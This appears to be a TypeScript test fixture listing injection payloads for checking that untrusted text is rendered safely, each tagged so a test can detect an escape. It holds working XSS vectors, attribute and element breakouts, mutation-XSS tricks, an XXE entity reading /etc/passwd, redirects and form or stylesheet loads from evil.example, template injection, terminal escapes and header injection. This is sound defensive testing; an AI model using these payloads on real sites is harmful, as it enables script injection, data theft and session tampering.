/**
 * Texts of strangers that would be something else than text wherever one forgets that they are. Whatever
 * becomes of them, an element with `data-injected`, or a dialog, is one that they made.
 */

const m = 'data-injected'

export const payloads: readonly string[] = [
  // elements that run something by themselves
  `<script ${m}>alert(1)</script>`,
  `<ScRiPt ${m} src=data:,alert(2)></sCrIpT>`,
  `<img ${m} src=x onerror=alert(3)>`,
  `<svg ${m} onload=alert(4)>`,
  `<svg><script ${m}>alert(5)</script></svg>`,
  `<details ${m} open ontoggle=alert(6)>`,
  `<body ${m} onload=alert(7)><input ${m} autofocus onfocus=alert(7)>`,
  `<video ${m}><source onerror=alert(8)></video><audio ${m} src=x onerror=alert(8)>`,
  `<iframe ${m} srcdoc="<script>alert(9)</script>"></iframe>`,
  `<object ${m} data="javascript:alert(10)"></object><embed ${m} src="javascript:alert(10)">`,
  `<img ${m}/src/onerror=alert(11)//`,
  `<svg ${m}><animate onbegin=alert(12) attributeName=x dur=1s></svg>`,
  `<x ${m} onanimationstart=alert(13) style="animation:a 1s">`,
  `<button ${m} popovertarget=p onclick=alert(14)>x</button><p id=p popover onbeforetoggle=alert(14)>`,
  // out of an attribute
  `"><b ${m}>15</b>`,
  `'><b ${m}>16</b>`,
  `" onmouseover="alert(17)" ${m}="`,
  `' onfocus='alert(18)' autofocus ${m}='`,
  `x onpointerover=alert(19) ${m}=`,
  `\`><b ${m}>20</b>`,
  `"/><img ${m} src=x onerror="alert(21)`,
  `&quot;&gt;<b ${m}>22</b>`,
  // out of an element whose text is no markup
  `</title><script ${m}>alert(23)</script>`,
  `</style><b ${m}>24</b>`,
  `</script><script ${m}>alert(25)</script>`,
  `</textarea></pre><b ${m}>26</b>`,
  `</noscript><img ${m} src=x onerror=alert(27)>`,
  `</template><b ${m}>28</b>`,
  `</select></option><b ${m}>29</b>`,
  `</xmp></plaintext></iframe></noembed><b ${m}>30</b>`,
  // comments, sections, instructions
  `<!--><b ${m}>31</b>-->`,
  `--><b ${m}>32</b><!--`,
  `<![CDATA[><b ${m}>33</b>]]>`,
  `]]><b ${m}>34</b>`,
  `<?xml version="1.0"?><b ${m}>35</b>`,
  `<!DOCTYPE x [<!ENTITY e "36"><!ENTITY f SYSTEM "file:///etc/passwd">]><b ${m}>&e;&f;</b>`,
  // what browsers read in one way and write in another
  `<math ${m}><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(37)>`,
  `<svg></p><style><a title="</style><img ${m} src=x onerror=alert(38)>">`,
  `<form ${m}><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(39)>`,
  `<noscript><p title="</noscript><img ${m} src=x onerror=alert(40)>">`,
  `<template ${m} shadowrootmode=open><b ${m}>41</b></template>`,
  `<svg><foreignObject><iframe ${m} src="javascript:alert(42)"></iframe></foreignObject></svg>`,
  // addresses
  `<a ${m} href="javascript:alert(43)">x</a>`,
  `javascript:alert(44)//`,
  ` \tjava\tscript:alert(45)`,
  `data:text/html,<script ${m}>alert(46)</script>`,
  `//evil.example/%2e%2e/?<b ${m}>47`,
  `../../../-/account#"><b ${m}>48</b>`,
  `<base ${m} href="https://evil.example/">`,
  `<meta ${m} http-equiv="refresh" content="0;url=https://evil.example">`,
  `<meta ${m} http-equiv="Content-Security-Policy" content="default-src *">`,
  `<form ${m} action="https://evil.example"><button>52</button></form>`,
  `<input ${m} type=image formaction="javascript:alert(53)">`,
  `<link ${m} rel="stylesheet" href="https://evil.example/x.css">`,
  `<style ${m}>@import "https://evil.example/x.css";*{display:none}</style>`,
  `x;}</style>{background:url(javascript:alert(56))}<i ${m} style="position:fixed;inset:0">`,
  // our own elements, and templates
  `<run-log ${m} data-place="0.1.">57</run-log>`,
  `<copy-text ${m}><code>58</code></copy-text><b ${m} data-part="run-head" data-key="1">`,
  `{{constructor.constructor('alert(59)')()}}\${alert(59)}<%= 59 %>#{59}`,
  // written in other characters
  `&lt;script ${m}&gt;alert(60)&lt;/script&gt;&#60;b ${m}&#62;&#x3c;b&#x3e;`,
  `\\u003cb ${m}\\u003e61\\x3cb ${m}\\x3e%3Cb%20${m}%3E`,
  `＜b ${m}＞62\u02c2b ${m}\u02c3\u2039b\u203a`,
  `+ADw-script ${m}+AD4-alert(63)+ADw-/script+AD4-`,
  `\u00bc\u00a2b ${m}\u00be64`,
  // terminals, and what nobody sees
  `\u001b[31m<b ${m}>65</b>\u001b[0m\u001b[2J\u001b[1;1H`,
  `\u001b]8;;javascript:alert(66)\u0007x\u001b]8;;\u0007\u001b]0;<b ${m}>\u0007`,
  `\u009b31m\u009d8;;javascript:alert(67)\u009c<b ${m}>67</b>\u0090\u009f`,
  `\u0000<b ${m}>68</b>\u0001\u0008\u007f`,
  `\u202e<b ${m}>69</b>\u2066\u2069\u202a\u061c\u200e`,
  `a\u200b\u200d\ufeff\u2060<\u200bb ${m}>70\u2028\u2029`,
  `\ud83d<b ${m}>71</b>\udc00`,
  // the framing of what goes out in pieces
  `x\n\nevent: lines\nid: 1.1.\ndata: [[1,0,[["<b ${m}>72","x"]]]]\n\n`,
  `x\r\nevent: step\r\ndata: {"html":"<b ${m}>73</b>"}\r\n\r\nretry: 1`,
  `"}],"x":[{"<b ${m}>74":"\\`,
  `x\r\nset-cookie: runhook=75\r\n\r\n<b ${m}>75</b>`,
  `"><b ${m}>${'76'.repeat(700)}</b>`,
]

/** The same as it can stand in a header, or in a line. */
export const latin = (text: string) => text.replace(/[^\x20-\x7e]/g, '?')
export const inOneLine = (text: string) => text.replace(/[\r\n]/g, ' ')
